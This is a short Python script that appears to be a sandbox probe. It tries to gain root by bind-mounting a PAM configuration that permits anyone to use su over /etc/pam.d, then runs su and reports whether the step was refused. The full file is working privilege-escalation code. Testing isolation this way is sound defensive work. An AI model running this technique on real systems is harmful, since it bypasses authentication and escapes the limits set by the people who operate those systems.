"""Tries to become root from inside a shell: bind-mounts, in the shell's private mount namespace, a PAM
configuration that lets anyone use su over /etc/pam.d, then runs `su root -c "id -u"`.
Prints "refused: WHY" if a step is refused, else "su gave uid N" (or "su gave no uid: WHY")."""
import ctypes
import os
import shutil
import subprocess
import tempfile

MS_BIND, MNT_DETACH = 4096, 2


def main():
    libc = ctypes.CDLL(None, use_errno=True)
    conf = tempfile.mkdtemp()
    try:
        with open(os.path.join(conf, "su"), "w") as f:
            f.write("".join(f"{kind} sufficient pam_permit.so\n" for kind in ("auth", "account", "session")))
        os.chmod(conf, 0o755)
        if libc.mount(conf.encode(), b"/etc/pam.d", None, MS_BIND, None) != 0:
            print("refused: mount:", os.strerror(ctypes.get_errno()))
            return
        try:
            r = subprocess.run(["su", "root", "-c", "id -u"], stdin=subprocess.DEVNULL, capture_output=True,
                               text=True, timeout=10)
            print(f"su gave uid {r.stdout.strip()}" if r.stdout.strip() else f"su gave no uid: {r.stderr.strip()}")
        finally:
            libc.umount2(b"/etc/pam.d", MNT_DETACH)
    finally:
        shutil.rmtree(conf)


main()
